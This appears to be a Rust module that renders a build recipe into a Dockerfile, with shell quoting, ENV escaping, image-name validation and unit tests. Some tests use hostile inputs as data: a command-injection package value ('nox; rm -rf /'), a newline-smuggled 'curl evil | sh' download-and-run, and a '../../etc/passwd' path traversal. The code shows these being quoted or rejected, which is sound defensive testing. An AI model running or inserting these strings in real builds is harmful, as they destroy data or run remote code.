//! Renders a recipe as an equivalent container build file.
//!
//! The rendered Dockerfile performs the same steps as [`crate::provision`]
//! so the environment can also be built by a container engine.

use std::path::{Path, PathBuf};

use crate::config::{Validate, ValidationResult};
use crate::env::EnvSource;
use crate::error::{Error, Result};
use crate::recipe::{rooted, Recipe, CREDENTIALS_VAR, PROJECT_VAR};

/// Base image used when none is given.
pub const DEFAULT_BASE_IMAGE: &str = "gcr.io/google-appengine/python";

/// Paths excluded from the build context.
pub const DOCKERIGNORE: &str = "\
.dockerignore
Dockerfile
.git
.hg
.svn
";

/// Renders the Dockerfile for `recipe` on top of `base_image`.
///
/// The recipe and image name are validated first; nothing is rendered if
/// either has errors.
pub fn render_dockerfile(recipe: &Recipe, base_image: &str) -> Result<String> {
    build_validation(recipe, base_image).into_result()?;

    let checkout_dir = recipe.checkout_dir()?;
    let target = rooted(Path::new("/"), &recipe.entrypoint_target);
    let copy_source = copy_source(&recipe.entrypoint_source);

    let mut out = String::new();
    out.push_str(&format!("FROM {}\n", base_image));
    out.push_str(&format!(
        "RUN git clone --depth {} {} {}\n",
        recipe.depth,
        shell_word(&recipe.source_url),
        shell_word(&format!("/{}", checkout_dir))
    ));
    out.push_str(&format!("WORKDIR /{}\n", checkout_dir));
    out.push_str(&format!(
        "RUN {} install {}\n",
        shell_word(&recipe.installer),
        shell_word(&recipe.package)
    ));
    out.push_str(&format!(
        "ENV {} {}\n",
        CREDENTIALS_VAR,
        env_value(&recipe.credentials_path.to_string_lossy())
    ));
    match recipe.project_source() {
        EnvSource::Literal(project) => {
            out.push_str(&format!("ENV {} {}\n", PROJECT_VAR, env_value(&project)));
        }
        EnvSource::FromVar(var) => {
            out.push_str(&format!("ARG {}\n", var));
            out.push_str(&format!("ENV {} ${{{}}}\n", PROJECT_VAR, var));
        }
        EnvSource::Unset => {
            out.push_str(&format!("ENV {} \"\"\n", PROJECT_VAR));
        }
    }
    out.push_str(&format!("COPY {} {}\n", copy_source.display(), target.display()));
    out.push_str(&format!("ENTRYPOINT {}\n", target.display()));

    Ok(out)
}

/// Writes `Dockerfile` and `.dockerignore` into `dir`.
///
/// Returns the paths written.
pub fn write_build_files(dir: &Path, recipe: &Recipe, base_image: &str) -> Result<Vec<PathBuf>> {
    let dockerfile = render_dockerfile(recipe, base_image)?;
    std::fs::create_dir_all(dir)?;

    let files = [("Dockerfile", dockerfile.as_str()), (".dockerignore", DOCKERIGNORE)];
    let mut written = Vec::with_capacity(files.len());
    for (name, contents) in files {
        let path = dir.join(name);
        std::fs::write(&path, contents)?;
        tracing::info!(path = ?path, "wrote build file");
        written.push(path);
    }
    Ok(written)
}

/// Recipe checks plus the base image name check.
pub fn build_validation(recipe: &Recipe, base_image: &str) -> ValidationResult {
    let mut image = ValidationResult::default();
    if let Err(e) = validate_image_name(base_image) {
        image.add_error(e.to_string());
    }

    let mut result = recipe.validate();
    result.merge(image);
    result
}

/// Checks an image reference: an alphanumeric first character, then
/// `[a-zA-Z0-9_.-/]`, with at most one `:tag` suffix.
pub fn validate_image_name(image: &str) -> Result<()> {
    let invalid = || Error::Config(format!("invalid base image name '{}'", image));
    let allowed = |c: char| c.is_ascii_alphanumeric() || "_.-/".contains(c);

    let (name, tag) = match image.split_once(':') {
        Some((name, tag)) => (name, Some(tag)),
        None => (image, None),
    };

    let mut chars = name.chars();
    match chars.next() {
        Some(first) if first.is_ascii_alphanumeric() => {}
        _ => return Err(invalid()),
    }
    if !chars.all(allowed) {
        return Err(invalid());
    }
    if let Some(tag) = tag {
        if tag.is_empty() || !tag.chars().all(allowed) {
            return Err(invalid());
        }
    }
    Ok(())
}

fn copy_source(source: &Path) -> PathBuf {
    if source.is_absolute() {
        source
            .file_name()
            .map(PathBuf::from)
            .unwrap_or_else(|| source.to_path_buf())
    } else {
        source.to_path_buf()
    }
}

// Quotes an ENV value; `$` is escaped to suppress Dockerfile substitution.
fn env_value(value: &str) -> String {
    let needs_quoting =
        |c: char| c.is_whitespace() || c == '"' || c == '\\' || c == '$' || c == '\'';
    if !value.is_empty() && !value.contains(needs_quoting) {
        return value.to_string();
    }
    let escaped = value
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('$', "\\$");
    format!("\"{}\"", escaped)
}

// Single-quotes a RUN argument unless it is made only of shell-safe characters.
fn shell_word(value: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    if !value.is_empty() && value.chars().all(safe) {
        return value.to_string();
    }
    format!("'{}'", value.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_default_recipe() {
        let dockerfile = render_dockerfile(&Recipe::default(), "staging/python:latest").unwrap();

        let expected = "\
FROM staging/python:latest
RUN git clone --depth 1 https://github.com/GoogleCloudPlatform/google-cloud-python.git /google-cloud-python
WORKDIR /google-cloud-python
RUN pip install nox-automation
ENV GOOGLE_APPLICATION_CREDENTIALS /workspace/tests/google-cloud-python-system/credentials.json
ARG GOOGLE_CLOUD_PROJECT_FOR_TESTS
ENV GOOGLE_CLOUD_PROJECT ${GOOGLE_CLOUD_PROJECT_FOR_TESTS}
COPY run_system_tests.sh /run_system_tests.sh
ENTRYPOINT /run_system_tests.sh
";
        assert_eq!(dockerfile, expected);
    }

    #[test]
    fn renders_literal_project() {
        let recipe = Recipe::default().with_project("demo-proj");
        let dockerfile = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap();

        assert!(dockerfile.contains("ENV GOOGLE_CLOUD_PROJECT demo-proj\n"));
        assert!(!dockerfile.contains("ARG "));
    }

    #[test]
    fn renders_unset_project_as_empty_string() {
        let recipe = Recipe::default().with_project_var(None);
        let dockerfile = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap();

        assert!(dockerfile.contains("ENV GOOGLE_CLOUD_PROJECT \"\"\n"));
    }

    #[test]
    fn absolute_entrypoint_source_copies_by_file_name() {
        let recipe = Recipe::default().with_entrypoint_source("/home/ci/scripts/run.sh");
        let dockerfile = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap();

        assert!(dockerfile.contains("COPY run.sh /run_system_tests.sh\n"));
    }

    #[test]
    fn env_values_with_spaces_are_quoted() {
        assert_eq!(env_value("plain"), "plain");
        assert_eq!(env_value(""), "\"\"");
        assert_eq!(env_value("with space"), "\"with space\"");
        assert_eq!(env_value("a\"b"), "\"a\\\"b\"");
    }

    #[test]
    fn env_values_escape_variable_references() {
        assert_eq!(env_value("a$HOME"), "\"a\\$HOME\"");
        assert_eq!(env_value("${X}"), "\"\\${X}\"");

        let recipe = Recipe::default().with_project("a$HOME");
        let dockerfile = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap();
        assert!(dockerfile.contains("ENV GOOGLE_CLOUD_PROJECT \"a\\$HOME\"\n"));
    }

    #[test]
    fn run_arguments_are_shell_quoted() {
        assert_eq!(shell_word("nox-automation"), "nox-automation");
        assert_eq!(shell_word("nox-automation>=1.0"), "'nox-automation>=1.0'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");

        let recipe = Recipe {
            checkout_dir: Some("repo".to_string()),
            ..Default::default()
        }
        .with_source_url("file:///srv/my repo")
        .with_package("nox; rm -rf /");
        let dockerfile = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap();

        assert!(dockerfile.contains("RUN git clone --depth 1 'file:///srv/my repo' /repo\n"));
        assert!(dockerfile.contains("RUN pip install 'nox; rm -rf /'\n"));
    }

    #[test]
    fn control_characters_are_rejected_before_rendering() {
        let recipe = Recipe::default().with_package("nox-automation\nRUN curl evil | sh");

        let err = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap_err();
        assert!(err.to_string().contains("invalid character in package"));
    }

    #[test]
    fn entrypoint_target_outside_root_is_rejected() {
        let recipe = Recipe {
            entrypoint_target: PathBuf::from("../../etc/passwd"),
            ..Default::default()
        };

        let err = render_dockerfile(&recipe, DEFAULT_BASE_IMAGE).unwrap_err();
        assert!(err.to_string().contains("escapes the root"));
    }

    #[test]
    fn build_validation_reports_recipe_and_image_errors() {
        let recipe = Recipe::default().with_package("");

        let result = build_validation(&recipe, "-python");

        assert_eq!(result.errors.len(), 2);
        assert!(result.errors.iter().any(|e| e.contains("package cannot be empty")));
        assert!(result.errors.iter().any(|e| e.contains("invalid base image name")));
    }

    #[test]
    fn write_build_files_writes_nothing_for_invalid_recipe() {
        let dir = tempfile::tempdir().unwrap();
        let recipe = Recipe::default().with_project("demo\nproj");

        assert!(write_build_files(dir.path(), &recipe, DEFAULT_BASE_IMAGE).is_err());
        assert!(!dir.path().join("Dockerfile").exists());
    }

    #[test]
    fn image_name_validation() {
        for valid in ["python", "gcr.io/google-appengine/python", "python:3.5", "a_b.c-d/e:f"] {
            assert!(validate_image_name(valid).is_ok(), "{} should be valid", valid);
        }
        for invalid in ["", "-python", "python:", "python:3:5", "py thon", "python\n"] {
            assert!(validate_image_name(invalid).is_err(), "{:?} should be invalid", invalid);
        }
    }

    #[test]
    fn write_build_files_creates_both_files() {
        let dir = tempfile::tempdir().unwrap();

        let written = write_build_files(dir.path(), &Recipe::default(), DEFAULT_BASE_IMAGE).unwrap();

        assert_eq!(written.len(), 2);
        assert!(std::fs::read_to_string(dir.path().join("Dockerfile"))
            .unwrap()
            .starts_with("FROM gcr.io/google-appengine/python\n"));
        assert_eq!(
            std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap(),
            DOCKERIGNORE
        );
    }
}
